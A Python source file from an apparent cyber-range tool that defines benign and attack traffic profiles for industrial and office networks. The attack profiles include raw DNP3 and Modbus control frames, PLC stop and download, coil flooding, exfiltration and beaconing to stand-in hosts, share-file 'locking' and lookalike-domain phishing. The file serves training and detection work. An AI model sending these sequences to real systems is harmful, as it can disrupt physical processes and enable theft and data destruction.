"""The catalogue of traffic: who says what, how often, when people work. Benign and hostile in one form.

A profile makes a *script* from its arguments: pieces in order (`declaring` says what each is), with waits between them.
`style`: **poll** one long session whose cycle repeats every `every` seconds; **visit** a session now and then; **event** one
piece now and then in the same flow (broadcasts); **spread** one piece to each of many targets (scans, floods).
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from typing import Any, Literal

from cyber_range.engine.errors import RangeError

BROADCAST_MAC = "ff:ff:ff:ff:ff:ff"
# Where datagrams to everybody go: (address, MAC). "subnet" stands for the segment's own broadcast address.
GROUPS = {
    "everybody": ("255.255.255.255", BROADCAST_MAC), "subnet": ("", BROADCAST_MAC),
    "ssdp": ("239.255.255.250", "01:00:5e:7f:ff:fa"), "llmnr": ("224.0.0.252", "01:00:5e:00:00:fc"),
    "mdns": ("224.0.0.251", "01:00:5e:00:00:fb"), "lldp": ("", "01:80:c2:00:00:0e"),
    "profinet": ("", "01:0e:cf:00:00:00"), "wire": ("", BROADCAST_MAC),
}  # fmt: skip


@dataclass(frozen=True, slots=True)
class Order:
    """A piece to be declared: its maker and arguments."""

    make: str
    args: tuple[tuple[str, Any], ...] = ()

    @property
    def key(self) -> str:
        return (
            f"{self.make} {json.dumps(dict(self.args), sort_keys=True, ensure_ascii=False)}" if self.args else self.make
        )


def order(make: str, **args: Any) -> Order:
    return Order(make, tuple(sorted(args.items())))


@dataclass(frozen=True, slots=True)
class Turn:
    """One of `choices` after a wait of low..high milliseconds, repeated low..high times."""

    choices: tuple[Order, ...]
    wait: tuple[int, int] = (20, 400)
    times: tuple[int, int] = (1, 1)


@dataclass(frozen=True, slots=True)
class Script:
    """`opening`, then `turns` (visits) or `cycle` again and again (polls), then `closing`."""

    turns: tuple[Turn, ...] = ()
    cycle: tuple[Order, ...] = ()
    opening: tuple[Order, ...] = ()
    closing: tuple[Order, ...] = ()

    @property
    def orders(self) -> tuple[Order, ...]:
        found = [*self.opening, *self.cycle, *(choice for turn in self.turns for choice in turn.choices), *self.closing]
        return tuple(dict.fromkeys(found))


Args = Mapping[str, Any]
Kind = Literal["benign", "attack"]
Write = Callable[[Args], Script]
OPEN, CLOSE = (order("tcp_open"),), (order("tcp_close"),)


def session(*turns: Turn, first: tuple[Order, ...] = (), last: tuple[Order, ...] = ()) -> Script:
    return Script(turns, (), OPEN + first, last + CLOSE)


def polling(*cycle: Order, first: tuple[Order, ...] = ()) -> Script:
    return Script((), cycle, OPEN + first, CLOSE)


@dataclass(frozen=True, slots=True)
class Profile:
    """`every`: seconds between two visits, events or exchanges. `shift`: see `shifts`. `group`: a key of GROUPS.

    `client_port` 0 lets the client choose one; `per_second` is the pace of a spread.
    """

    name: str
    kind: Kind
    style: Literal["poll", "visit", "event", "spread"]
    transport: Literal["tcp", "udp", "icmp", "l2"]
    port: int
    every: float
    write: Write
    shift: str = "always"
    technique: str = ""
    client_port: int = 0
    group: str = ""
    per_second: int = 0
    protocol: str = ""


class UnknownProfile(RangeError):
    """No traffic profile of that name."""

    code = "unknown_profile"


# ---------------------------------------------------------------- plant polls


def modbus_poll(args: Args) -> Script:
    blocks = args.get("blocks") or [{"table": "holding", "address": 0, "count": 20}]
    unit = int(args.get("unit", 1))
    return polling(*(
        order("modbus_read", table=str(b["table"]), address=int(b["address"]), count=int(b.get("count", 1)), unit=unit)
        for b in blocks
    ))  # fmt: skip


def modbus_check(args: Args) -> Script:
    """A few points are read and compared, then the session ends: an engineering station's habit."""
    points = args.get("points") or [{"table": "holding", "address": 20}]
    unit = int(args.get("unit", 1))
    return session(*(
        Turn((order("modbus_read", table=str(p["table"]), address=int(p["address"]), count=1, unit=unit),), (2, 9)) for p in points
    ))  # fmt: skip


def s7_poll(args: Args) -> Script:
    blocks = args.get("blocks") or [{"db": 1, "start": 0, "count": 32}]
    reads = (
        order("s7_read", db=int(b.get("db", 1)), start=int(b.get("start", 0)), count=int(b.get("count", 16)))
        for b in blocks
    )
    return polling(*reads, first=(order("s7_connect"),))


def enip_poll(args: Args) -> Script:
    tags = args.get("tags") or ["Line_Speed", "Good_Count", "Tank_Level"]
    return polling(*(order("enip_read", tag=str(tag)) for tag in tags), first=(order("enip_register"),))


def opcua_poll(args: Args) -> Script:
    return polling(order("opcua_read", nodes=int(args.get("nodes", 4))), first=(order("opcua_open"),))


def iec104_report(args: Args) -> Script:
    return polling(order("iec104_measure", address=int(args.get("address", 200))), first=(order("iec104_start"),))


def dnp3_poll(args: Args) -> Script:
    return polling(order("dnp3", values=int(args.get("values", 3))))


def bacnet_poll(args: Args) -> Script:
    objects = args.get("objects") or [[0, 1], [0, 2], [2, 1]]
    return Script(cycle=tuple(order("bacnet_read", kind=int(kind), instance=int(number)) for kind, number in objects))


def mqtt_report(args: Args) -> Script:
    topics = args.get("topics") or ["plant/line1/good", "plant/line1/speed", "plant/line1/temp"]
    return polling(*(order("mqtt_publish", topic=str(t)) for t in topics), first=(order("mqtt_connect"),))


# ---------------------------------------------------------------- the office


def web(args: Args) -> Script:
    host, paths = (
        str(args.get("host", "intranet")),
        args.get("paths") or ["/", "/news", "/orders?week=10", "/style.css"],
    )
    login = str(args.get("login", ""))
    pages = tuple(
        order("http_get", path=str(path), host=host, size=900 + 1700 * number, login=login)
        for number, path in enumerate(paths)
    )
    return session(Turn(pages, (40, 2500), (1, 4)))


def share(args: Args) -> Script:
    host, login = str(args.get("host", "share")), str(args.get("login", ""))
    reads = args.get("read") or ["/plan.csv", "/report.csv"]
    turns = [Turn((order("http_get", path="/", host=host, size=1400, login=login),), (5, 30))]
    turns.append(
        Turn(
            tuple(order("http_get", path=str(p), host=host, size=2600, kind="text/csv", login=login) for p in reads),
            (60, 900),
        )
    )
    if args.get("write"):
        turns.append(
            Turn((order("http_put", path=str(args["write"]), host=host, size=3100, login=login),), (100, 4000), (0, 1))
        )
    return session(*turns)


def browsing(args: Args) -> Script:
    hosts = args.get("hosts") or ["www.example.cn", "mail.example.cn", "news.example.cn", "erp.example.cn"]
    hello = Turn(tuple(order("tls_hello", host=str(host)) for host in hosts), (1, 4))
    pages = (order("tls_exchange", out=420, back=2600), order("tls_exchange", out=610, back=14200),
             order("tls_exchange", out=380, back=900))  # fmt: skip
    return session(hello, Turn(pages, (20, 1800), (2, 9)))


def mail(args: Args) -> Script:
    sender, to = str(args.get("sender", "plan@example.cn")), args.get("to") or ["store@example.cn"]
    subjects = args.get("subjects") or ["Report", "Plan", "Delivery"]
    domain = sender.rpartition("@")[2]
    messages = tuple(
        order(
            "smtp_message",
            sender=sender,
            to=str(to[number % len(to)]),
            subject=ascii_of(str(subject)),
            size=700 + 1300 * number,
        )
        for number, subject in enumerate(subjects)
    )
    return session(
        Turn(messages, (10, 300)), first=(order("smtp_greeting", domain=domain),), last=(order("smtp_quit"),)
    )  # fmt: skip


def ascii_of(text: str) -> str:
    """A header's text in the form RFC 2047 gives it."""
    if text.isascii():
        return text
    return "=?utf-8?q?" + "".join(f"={byte:02X}" for byte in text.encode()) + "?="


def ssh_admin(args: Args) -> Script:
    typing = (
        order("ssh_exchange", out=36, back=36),
        order("ssh_exchange", out=64, back=448),
        order("ssh_exchange", out=52, back=1240),
    )
    return session(Turn((order("ssh_hello"),), (1, 4)), Turn(typing, (120, 3500), (8, 40)))


def feed(args: Args) -> Script:
    return Script(
        (Turn((order("line_feed", size=int(args.get("size", 420))),), (1, 3)),),
        (),
        OPEN,
        (order("tcp_close", by_server=True),),
    )


def backup(args: Args) -> Script:
    part = order("http_put", path=str(args.get("path", "/backup/line.bin")), host=str(args.get("host", "nas")), size=131072,
                 agent="backup/3.2")  # fmt: skip
    parts = max(1, round(float(args.get("mib", 4)) * 8))
    return session(Turn((part,), (15, 60), (parts, parts)))


def update(args: Args) -> Script:
    part = order("http_get", path=str(args.get("path", "/updates/defs.cab")), host=str(args.get("host", "wsus")), size=131072,
                 kind="application/octet-stream", agent="Windows-Update-Agent/10.0", random=True)  # fmt: skip
    parts = max(1, round(float(args.get("mib", 2)) * 8))
    return session(Turn((part,), (10, 80), (parts, parts)))


def dns(args: Args) -> Script:
    names = args.get("names") or [
        "www.example.cn",
        "erp.example.cn",
        "time.example.cn",
        "mail.example.cn",
        "update.example.cn",
    ]
    found = tuple(order("dns_lookup", host=str(n), address=f"203.0.113.{10 + i}") for i, n in enumerate(names))
    return Script((Turn(found, (0, 1)),))


def single(make: str, *allowed: str) -> Write:
    """A script of one piece; `allowed` arguments are handed on."""

    def write(args: Args) -> Script:
        return Script((Turn((order(make, **{k: args[k] for k in allowed if k in args}),), (0, 1)),))

    return write


# ---------------------------------------------------------------- attacks


def modbus_session(*asks: tuple[str, str]) -> Write:
    def write(args: Args) -> Script:
        return session(*(Turn((order("modbus_raw", ask=ask, tell=tell),), (20, 120)) for ask, tell in asks))

    return write


IDENTITY = "2b0e01010000030006" + b"Vendor".hex() + "0106" + b"HD-520".hex() + "0205" + b"V3.11".hex()


def modbus_enumerate(args: Args) -> Script:
    last, tables = int(args.get("last", 299)), args.get("tables") or ["holding", "coil", "input"]
    largest = {"coil": 400, "discrete": 400, "holding": 100, "input": 100}
    reads = [
        order("modbus_read", table=str(table), address=first, count=min(largest[table], last + 1 - first))
        for table in tables
        for first in range(0, last + 1, largest[table])
    ]
    return session(*(Turn((read,), (15, 40)) for read in reads))


def modbus_setpoint(args: Args) -> Script:
    writes = args.get("writes") or [args]
    turns: list[Turn] = []
    for write in writes:
        table, address = str(write.get("table", "holding")), int(write.get("address", 40))
        read = order("modbus_read", table=table, address=address, count=1)
        change = order("modbus_write", table=table, address=address, value=int(write.get("value", 660)))
        turns += [Turn((read,), (20, 200)), Turn((change,), (30, 300)), Turn((read,), (20, 200))]
    return session(*turns)


def modbus_brute_io(args: Args) -> Script:
    """T0806: coils are switched as fast as the device answers."""
    first, count = int(args.get("address", 0)), int(args.get("count", 8))
    switching = tuple(
        order("modbus_write", table="coil", address=first + i, value=v) for i in range(count) for v in (1, 0)
    )
    times = int(args.get("times", 400))
    return session(Turn(switching, (1, 6), (times, times)))


def after(opening: str, *turns: Turn) -> Script:
    return session(*turns, first=(order(opening),))


def s7_setpoint(args: Args) -> Script:
    db, start = int(args.get("db", 1)), int(args.get("start", args.get("address", 0)))
    read, write = (
        order("s7_read", db=db, start=start, count=2),
        order("s7_write", db=db, start=start, value=int(args.get("value", 980))),
    )
    return after("s7_connect", Turn((read,), (30, 200)), Turn((write,), (30, 200)), Turn((read,), (30, 200)))


def rogue_poll(args: Args) -> Script:
    """A second master that keeps reading."""
    return modbus_poll(
        {
            "blocks": [
                {"table": args.get("table", "input"), "address": args.get("address", 0), "count": args.get("count", 7)}
            ]
        }
    )


def dnp3_operate(args: Args) -> Script:
    # Direct operate (5) of one control relay output block: latch on, once, 100 ms.
    crob = "0c0128010000000301" + "64000000" + "64000000" + "00"
    return session(Turn((order("dnp3", ask="05" + crob, tell="810000" + crob),), (30, 120)))


def http_exfil(args: Args) -> Script:
    host, size = str(args.get("host_name", "files-sync.example")), int(args.get("size", 60000))
    part = order("http_put", path="/u", host=host, size=size, verb="POST", agent="curl/7.88.1", status="200 OK")
    times = int(args.get("parts", 6))
    return session(Turn((part,), (80, 900), (times, times)))


def beacon(args: Args) -> Script:
    host = str(args.get("host_name", "cdn-sync.example"))
    ask = order(
        "http_get", path="/t?id=7f3a", host=host, size=24, kind="text/plain", agent="Mozilla/4.0 (compatible; MSIE 6.0)"
    )
    return session(Turn((ask,), (1, 10)))


def ssh_guess(args: Args) -> Script:
    tries = int(args.get("tries", 3))
    return session(
        Turn((order("ssh_hello"),), (1, 4)),
        Turn((order("ssh_exchange", out=68, back=52),), (900, 2500), (tries, tries)),
    )


def ssh_tunnel(args: Args) -> Script:
    """A session that carries something else inside."""
    sizes = ((88, 104), (124, 88), (88, 104), (180, 612), (96, 148))
    return polling(*(order("ssh_exchange", out=out, back=back) for out, back in sizes), first=(order("ssh_hello"),))


def web_guess(args: Args) -> Script:
    tries = int(args.get("tries", 12))
    return session(
        Turn((order("web_login"),), (60, 250), (tries, tries)), Turn((order("web_login", right=True),), (60, 250))
    )


def web_exploit(args: Args) -> Script:
    paths = ["/admin/backup.zip", "/.git/config", "/cgi-bin/test"]
    tries = tuple(order("web_probe", path=path, found=False) for path in paths)
    return session(*(Turn((one,), (40, 300)) for one in tries), Turn((order("web_probe"),), (100, 600)))


def file_drop(args: Args) -> Script:
    part = order(
        "http_put", path=str(args.get("path", "/tools/svc.bin")), host="share", size=48000, agent="curl/7.88.1"
    )
    return session(Turn((part,), (20, 120)))


def file_wreck(args: Args) -> Script:
    """Files of a share are read and written back unreadable, one after another."""
    files = int(args.get("files", 12))
    return session(*(
        turn
        for number in range(files)
        for turn in (
            Turn((order("http_get", path=f"/mes/file{number}.csv", host="share", size=2400, agent="curl/7.88.1"),), (5, 40)),
            Turn((order("http_put", path=f"/mes/file{number}.csv.locked", host="share", size=2400, agent="curl/7.88.1"),), (5, 40)),
        )
    ))  # fmt: skip


def phishing(args: Args) -> Script:
    message = order(
        "smtp_message",
        sender="hr@exarnple.cn",
        to=str(args.get("to", "plan@example.cn")),
        subject="Salary adjustment",
        size=5200,
    )
    return session(
        Turn((message,), (10, 90)),
        first=(order("smtp_greeting", domain="exarnple.cn", host="relay"),),
        last=(order("smtp_quit"),),
    )


def tcp_pieces(args: Args) -> Script:
    return Script(cycle=(order("tcp_knock"), order("tcp_refused"), order("tcp_silent")))


B: Kind = "benign"
A: Kind = "attack"
CATALOGUE: dict[str, Profile] = {
    profile.name: profile
    for profile in (
        Profile("modbus_poll", B, "poll", "tcp", 502, 0.5, modbus_poll, protocol="modbus"),
        Profile("modbus_check", B, "visit", "tcp", 502, 60, modbus_check, protocol="modbus"),
        Profile("s7_poll", B, "poll", "tcp", 102, 1.0, s7_poll, protocol="s7"),
        Profile("enip_poll", B, "poll", "tcp", 44818, 1.0, enip_poll, protocol="enip"),
        Profile("opcua_poll", B, "poll", "tcp", 4840, 1.0, opcua_poll, protocol="opcua"),
        Profile("iec104_report", B, "poll", "tcp", 2404, 2.0, iec104_report, protocol="iec104"),
        Profile("dnp3_poll", B, "poll", "tcp", 20000, 5.0, dnp3_poll, protocol="dnp3"),
        Profile("bacnet_poll", B, "poll", "udp", 47808, 5.0, bacnet_poll, client_port=47808, protocol="bacnet"),
        Profile("mqtt_report", B, "poll", "tcp", 1883, 2.0, mqtt_report, protocol="mqtt"),
        Profile("web", B, "visit", "tcp", 80, 40, web, shift="office", protocol="http"),
        Profile("share", B, "visit", "tcp", 8080, 25, share, shift="office", protocol="http"),
        Profile("browsing", B, "visit", "tcp", 443, 30, browsing, shift="office", protocol="tls"),
        Profile("mail", B, "visit", "tcp", 25, 120, mail, shift="office", protocol="smtp"),
        Profile("ssh_admin", B, "visit", "tcp", 22, 1800, ssh_admin, shift="office", protocol="ssh"),
        Profile("feed", B, "visit", "tcp", 8900, 1.0, feed, protocol="line"),
        Profile("backup", B, "visit", "tcp", 8080, 7200, backup, protocol="http"),
        Profile("update", B, "visit", "tcp", 8530, 5400, update, protocol="http"),
        Profile("dns", B, "visit", "udp", 53, 20, dns, shift="office", protocol="dns"),
        Profile("time", B, "event", "udp", 123, 64, single("time_exchange"), client_port=123, protocol="ntp"),
        Profile("time_query", B, "event", "udp", 123, 64, single("time_query"), client_port=123, protocol="ntp"),
        Profile("log_line", B, "event", "udp", 514, 30, single("log_line", "host", "text"), protocol="syslog"),
        Profile("ping", B, "event", "icmp", 0, 60, single("ping", "size"), protocol="icmp"),
        Profile("neighbour", B, "event", "l2", 0, 90, single("arp_exchange"), protocol="arp"),
        Profile("gratuitous_arp", B, "event", "l2", 0, 300, single("gratuitous_arp"), group="wire", protocol="arp"),
        Profile("name_query", B, "event", "udp", 137, 20, single("name_query", "wanted"), client_port=137, group="subnet",
                shift="office", protocol="nbns"),
        Profile("service_search", B, "event", "udp", 1900, 30, single("service_search", "target"), group="ssdp",
                shift="office", protocol="ssdp"),
        Profile("multicast_name", B, "event", "udp", 5355, 25, single("multicast_name", "wanted"), group="llmnr",
                shift="office", protocol="llmnr"),
        Profile("service_names", B, "event", "udp", 5353, 60, single("service_names", "service"), client_port=5353,
                group="mdns", shift="office", protocol="mdns"),
        Profile("lease_inform", B, "event", "udp", 67, 600, single("lease_inform", "host"), client_port=68,
                group="everybody", protocol="dhcp"),
        Profile("lldp", B, "event", "l2", 0, 30, single("lldp", "host", "port"), group="lldp", protocol="lldp"),
        Profile("station_search", B, "event", "l2", 0, 300, single("station_search"), group="profinet", protocol="pn_dcp"),
        Profile("station_read", B, "event", "l2", 0, 300, single("station_read", "station"), protocol="pn_dcp"),
        Profile("bacnet_who_is", B, "event", "udp", 47808, 300, single("bacnet_who_is"), client_port=47808, group="subnet",
                protocol="bacnet"),
        Profile("bacnet_i_am", B, "event", "udp", 47808, 300, single("bacnet_i_am", "instance"), client_port=47808,
                group="subnet", protocol="bacnet"),
        # attacks; techniques are ATT&CK for ICS v18.1
        Profile("port_scan", A, "spread", "tcp", 0, 0, tcp_pieces, technique="T0846", per_second=60),
        Profile("host_sweep", A, "spread", "l2", 0, 0, single("arp_sweep"), technique="T0846", per_second=40, protocol="arp"),
        Profile("syn_flood", A, "spread", "tcp", 0, 0, lambda args: Script(cycle=(order("tcp_unanswered"),)),
                technique="T0814", per_second=400),
        Profile("arp_spoof", A, "event", "l2", 0, 2, single("arp_claim"), technique="T0830", protocol="arp"),
        Profile("modbus_identify", A, "visit", "tcp", 502, 30, modbus_session(("2b0e0100", IDENTITY)), technique="T0888",
                protocol="modbus"),
        Profile("modbus_enumerate", A, "visit", "tcp", 502, 30, modbus_enumerate, technique="T0861", protocol="modbus"),
        Profile("rogue_poll", A, "poll", "tcp", 502, 2.0, rogue_poll, technique="T0801", protocol="modbus"),
        Profile("modbus_setpoint", A, "visit", "tcp", 502, 30, modbus_setpoint, technique="T0836", protocol="modbus"),
        Profile("modbus_brute_io", A, "visit", "tcp", 502, 30, modbus_brute_io, technique="T0806", protocol="modbus"),
        Profile("modbus_restart", A, "visit", "tcp", 502, 30, modbus_session(("080001ff00", "080001ff00")), technique="T0816",
                protocol="modbus"),
        Profile("s7_identify", A, "visit", "tcp", 102, 30,
                lambda args: after("s7_connect", Turn((order("s7_status_list", szl=0x11),), (20, 90)),
                                   Turn((order("s7_status_list", szl=0x424),), (20, 90))), technique="T0888", protocol="s7"),
        Profile("s7_setpoint", A, "visit", "tcp", 102, 30, s7_setpoint, technique="T0836", protocol="s7"),
        Profile("s7_stop", A, "visit", "tcp", 102, 30, lambda args: after("s7_connect", Turn((order("s7_stop"),), (20, 200))),
                technique="T0858", protocol="s7"),
        Profile("s7_start", A, "visit", "tcp", 102, 30, lambda args: after("s7_connect", Turn((order("s7_start"),), (20, 200))),
                technique="T0858", protocol="s7"),
        Profile("s7_download", A, "visit", "tcp", 102, 30,
                lambda args: after("s7_connect", Turn((order("s7_stop"),), (20, 200)), Turn((order("s7_download"),), (200, 900)),
                                   Turn((order("s7_start"),), (200, 900))), technique="T0843", protocol="s7"),
        Profile("s7_upload", A, "visit", "tcp", 102, 30, lambda args: after("s7_connect", Turn((order("s7_upload"),), (20, 200))),
                technique="T0845", protocol="s7"),
        Profile("enip_identify", A, "visit", "udp", 44818, 30, single("enip_identity"), technique="T0888", protocol="enip"),
        Profile("enip_setpoint", A, "visit", "tcp", 44818, 30,
                lambda args: after("enip_register", Turn((order("enip_write", value=int(args.get("value", 9000))),), (20, 200))),
                technique="T0836", protocol="enip"),
        Profile("cip_reset", A, "visit", "tcp", 44818, 30, lambda args: after("enip_register", Turn((order("cip_reset"),), (20, 200))),
                technique="T0816", protocol="enip"),
        Profile("opcua_browse", A, "visit", "tcp", 4840, 30,
                lambda args: after("opcua_open", Turn((order("opcua_read", nodes=12),), (20, 200), (6, 12))), technique="T0861",
                protocol="opcua"),
        Profile("iec104_command", A, "visit", "tcp", 2404, 30,
                lambda args: after("iec104_start", Turn((order("iec104_command", address=int(args.get("address", 3000))),),
                                                        (100, 900), (1, 4))), technique="T0855", protocol="iec104"),
        Profile("dnp3_restart", A, "visit", "tcp", 20000, 30,
                lambda args: session(Turn((order("dnp3", ask="0d", tell="8100003402070164"+"00"),), (20, 200))), technique="T0816",
                protocol="dnp3"),
        Profile("dnp3_operate", A, "visit", "tcp", 20000, 30, dnp3_operate, technique="T0855", protocol="dnp3"),
        Profile("bacnet_identify", A, "event", "udp", 47808, 10, single("bacnet_who_is"), group="subnet", technique="T0888",
                protocol="bacnet"),
        Profile("bacnet_setpoint", A, "visit", "udp", 47808, 30, single("bacnet_write", "kind", "instance"), technique="T0836",
                protocol="bacnet"),
        Profile("bacnet_reinit", A, "visit", "udp", 47808, 30, single("bacnet_reinitialize"), technique="T0816", protocol="bacnet"),
        Profile("dns_exfil", A, "visit", "udp", 53, 0.4, single("dns_tunnel", "domain"), technique="T0882", protocol="dns"),
        Profile("http_exfil", A, "visit", "tcp", 80, 60, http_exfil, technique="T0882", protocol="http"),
        Profile("beacon", A, "visit", "tcp", 80, 30, beacon, technique="T0869", protocol="http"),
        Profile("ssh_guess", A, "visit", "tcp", 22, 8, ssh_guess, technique="T0812", protocol="ssh"),
        Profile("ssh_tunnel", A, "poll", "tcp", 22, 1.5, ssh_tunnel, technique="T0886", protocol="ssh"),
        Profile("web_guess", A, "visit", "tcp", 80, 30, web_guess, technique="T0812", protocol="http"),
        Profile("web_exploit", A, "visit", "tcp", 80, 30, web_exploit, technique="T0819", protocol="http"),
        Profile("file_drop", A, "visit", "tcp", 8080, 30, file_drop, technique="T0867", protocol="http"),
        Profile("file_wreck", A, "visit", "tcp", 8080, 30, file_wreck, technique="T0809", protocol="http"),
        Profile("phishing", A, "visit", "tcp", 25, 60, phishing, technique="T0865", protocol="smtp"),
    )
}  # fmt: skip


def profile(name: str) -> Profile:
    found = CATALOGUE.get(name)
    if found is None:
        raise UnknownProfile(
            f"there is no traffic profile {name!r}", remedy=f"Choose one of {', '.join(sorted(CATALOGUE))}"
        )
    return found
